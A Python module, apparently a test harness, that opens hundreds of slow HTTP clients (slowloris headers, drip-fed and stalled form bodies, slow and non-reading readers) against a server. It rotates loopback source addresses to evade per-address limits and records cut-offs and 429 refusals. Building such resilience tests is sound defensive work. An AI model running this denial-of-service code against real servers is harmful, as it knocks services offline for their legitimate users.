"""Clients that hold a connection for as long as they are let: one thread plays hundreds of them.

Each comes back as soon as it is cut off, from one of `ADDRESSES` addresses of the loopback network,
so that a limit by address alone does not end the attack.
"""

import asyncio
import contextlib
import socket
import threading
import time
from collections.abc import Awaitable, Callable, Sequence
from dataclasses import dataclass
from urllib.parse import urlsplit

EVERY = 3.0  # seconds between two bytes
ADDRESSES = 30
BACK = 2.0  # until who was cut off comes again
# A window this small is full at once, so that the answer stays with the server.
WINDOW = 2048


@dataclass(frozen=True)
class Stay:
    """One connection: what it did, for how many seconds, what ended it."""

    kind: str
    seconds: float
    status: int  # of an answer, 0 without one
    cut: bool  # by the server, not by the end of the attack


class Connection:
    """A connection that sends and reads little."""

    def __init__(self, loop: asyncio.AbstractEventLoop, host: bytes) -> None:
        self.loop, self.host = loop, host
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, WINDOW)
        self.said = b""

    async def send(self, data: bytes) -> None:
        await self.loop.sock_sendall(self.socket, data)

    async def read(self, most: int) -> bool:
        """Read so many bytes; return whether there were any."""
        data = await self.loop.sock_recv(self.socket, most)
        self.said = (self.said + data)[:20]
        return bool(data)

    async def drip(self, data: bytes) -> None:
        """Send a byte now and then until the server answers or closes."""
        for place in range(len(data)):
            await self.send(data[place : place + 1])
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(self.read(4096), EVERY)
                return


async def header(client: Connection) -> None:
    """Never end the header: slowloris."""
    await client.send(b"GET / HTTP/1.1\r\nHost: " + client.host + b"\r\nX-Slow: ")
    await client.drip(b"a" * 4000)


async def body(client: Connection) -> None:
    """Send a form byte by byte."""
    await client.send(
        b"POST /plans/new/ HTTP/1.1\r\nHost: " + client.host + b"\r\nContent-Length: 4000\r\n"
        b"Content-Type: application/x-www-form-urlencoded\r\n\r\n"
    )
    await client.drip(b"a" * 4000)


async def stalled(client: Connection) -> None:
    """Send half a form and then nothing."""
    await client.send(
        b"POST /plans/new/ HTTP/1.1\r\nHost: " + client.host + b"\r\nContent-Length: 4000\r\n"
        b"Content-Type: application/x-www-form-urlencoded\r\n\r\n" + b"a" * 2000
    )
    await client.read(4096)


async def reader(client: Connection) -> None:
    """Ask for a long answer and read a little of it at a time."""
    await client.send(b"GET /sources/ HTTP/1.1\r\nHost: " + client.host + b"\r\n\r\n")
    while await client.read(256):
        await asyncio.sleep(EVERY)


async def deaf(client: Connection) -> None:
    """Ask for a long answer, and read its beginning and no more."""
    await client.send(b"GET /sources/ HTTP/1.1\r\nHost: " + client.host + b"\r\n\r\n")
    await client.read(256)
    while not _is_closed(client.socket):
        await asyncio.sleep(0.5)


def _is_closed(one: socket.socket) -> bool:
    """Return whether the other side has reset the connection, or closed it after all it sent."""
    state = one.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
    return state != 1  # TCP_ESTABLISHED


Way = Callable[[Connection], Awaitable[None]]


class Slow:
    """Slow clients, from `with` to its end: so many for each way of being slow."""

    def __init__(
        self, address: str, ways: Sequence[tuple[Way, int]], addresses: int = ADDRESSES
    ) -> None:
        place = urlsplit(address)
        self.where = (place.hostname or "", place.port or 80)
        self.host = place.netloc.encode()
        self.ways = ways
        self.stays: list[Stay] = []
        self.addresses = addresses
        self.thread = threading.Thread(target=lambda: asyncio.run(self._attack()))
        self.loop: asyncio.AbstractEventLoop | None = None
        self.over = asyncio.Event()

    async def _attack(self) -> None:
        self.loop = asyncio.get_running_loop()
        tasks = [
            asyncio.create_task(self._client(way, f"127.0.1.{1 + number % self.addresses}"))
            for way, count in self.ways
            for number in range(count)
        ]
        await self.over.wait()
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)

    async def _client(self, way: Way, source: str) -> None:
        """Hold one connection after the other."""
        assert self.loop is not None  # noqa: S101
        while True:
            client = Connection(self.loop, self.host)
            started, cut = time.monotonic(), False
            try:
                client.socket.bind((source, 0))
                await self.loop.sock_connect(client.socket, self.where)
                await way(client)
                cut = True
            except OSError:
                cut = True
            finally:
                client.socket.close()
                status = client.said[9:12].decode() if client.said.startswith(b"HTTP/") else ""
                seconds = time.monotonic() - started
                self.stays.append(Stay(way.__name__, seconds, int(status or 0), cut))
            await asyncio.sleep(BACK)

    def __enter__(self) -> "Slow":
        self.thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        if self.loop is not None:
            self.loop.call_soon_threadsafe(self.over.set)
        self.thread.join()

    def of(self, way: Way) -> list[Stay]:
        """Return the connections that were held this way."""
        return [stay for stay in self.stays if stay.kind == way.__name__]

    def refused(self) -> int:
        """Return how often a client was told that its address has too much under way."""
        return sum(stay.status == 429 for stay in self.stays)

    def held(self) -> int:
        """Return how many were still there at the end and had not just come."""
        return sum(not stay.cut and stay.seconds > BACK for stay in self.stays)

    def longest(self, *ways: Way) -> float:
        """Return the longest time in seconds that a client held a connection in these ways."""
        return max((stay.seconds for way in ways for stay in self.of(way)), default=0.0)

    def lines(self) -> list[str]:
        """Say of each way how many were cut off, and after how long."""
        return [
            f"{way.__name__}: {count} at a time, {sum(stay.cut for stay in self.of(way))} cut off, "
            f"longest stay {self.longest(way):.1f} s"
            for way, count in self.ways
        ]
